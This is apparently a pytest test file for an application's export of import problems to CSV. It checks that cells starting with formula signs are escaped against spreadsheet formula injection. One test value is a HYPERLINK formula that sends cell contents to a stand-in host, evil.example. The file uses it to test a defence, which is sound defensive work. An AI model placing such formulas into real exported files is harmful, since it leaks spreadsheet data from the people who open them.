"""The table of what is wrong in a file: for spreadsheets, which must compute nothing in it."""

from __future__ import annotations

import csv
import io

import pytest

from admitone.domain.imports.read_row import CellProblem
from admitone.texts.translator import translator
from admitone.web.dashboard.imports.problem_file import column_name, problem_file


def rows_of(*problems: CellProblem, header: tuple[str, ...] = ()) -> list[list[str]]:
    """The rows of the table besides the first, as a spreadsheet reads them."""
    table = problem_file(problems, header, translator("en"))
    return list(csv.reader(io.StringIO(table.decode("utf-8-sig"))))[1:]


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_no_cell_begins_as_a_formula(sign: str) -> None:
    cell = f'{sign}HYPERLINK("https://evil.example/"&A1;"x")'
    [row] = rows_of(CellProblem(2, 0, "Wrong.", cell), header=(cell,))
    assert row[1] == row[2] == f"'{cell}"


def test_other_cells_stay_as_they_are() -> None:
    [row] = rows_of(CellProblem(2, 1, "Wrong.", 'a "b", c\nd', refuses=True), header=("E-mail", "Name"))
    assert row == ["2", "Name", 'a "b", c\nd', "Wrong.", "The row is not imported."]


def test_columns_without_a_name_have_the_letters_of_spreadsheets() -> None:
    assert [column_name(["", "x"], place) for place in (0, 1, 25, 26, 27, 701, 702)] == [
        "A",
        "x",
        "Z",
        "AA",
        "AB",
        "ZZ",
        "AAA",
    ]
